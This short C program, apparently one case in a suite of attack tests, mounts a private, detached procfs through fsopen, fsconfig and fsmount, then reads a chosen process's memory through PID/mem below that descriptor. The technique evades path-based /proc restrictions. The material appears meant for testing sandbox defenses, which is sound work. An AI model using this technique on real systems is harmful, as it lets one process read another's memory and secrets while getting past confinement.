/* Reads PID/mem through a procfs that is mounted nowhere: fsopen, fsconfig, fsmount and a path below its descriptor. */
#include "attack.h"
#include <linux/mount.h>
#include <sys/syscall.h>

int main(int argc, char **argv)
{
	struct attack a = parse_attack(argc, argv, "detached PID ADDRESS LENGTH");
	int context, mount, fd;
	long long at;
	char path[64];
	ssize_t n;

	at = now_ns();
	context = syscall(SYS_fsopen, "proc", FSOPEN_CLOEXEC);
	if (context < 0)
		return report_failure(at, "fsopen");
	if (syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0) < 0)
		return report_failure(at, "fsconfig");
	mount = syscall(SYS_fsmount, context, FSMOUNT_CLOEXEC, 0);
	if (mount < 0)
		return report_failure(at, "fsmount");
	snprintf(path, sizeof(path), "%d/mem", a.pid);
	at = now_ns();
	fd = openat(mount, path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return report_failure(at, "openat");
	n = pread(fd, a.bytes, a.length, a.address);
	if (n < 0)
		return report_failure(at, "pread");
	report_bytes(at, a.bytes, n);
	return 0;
}
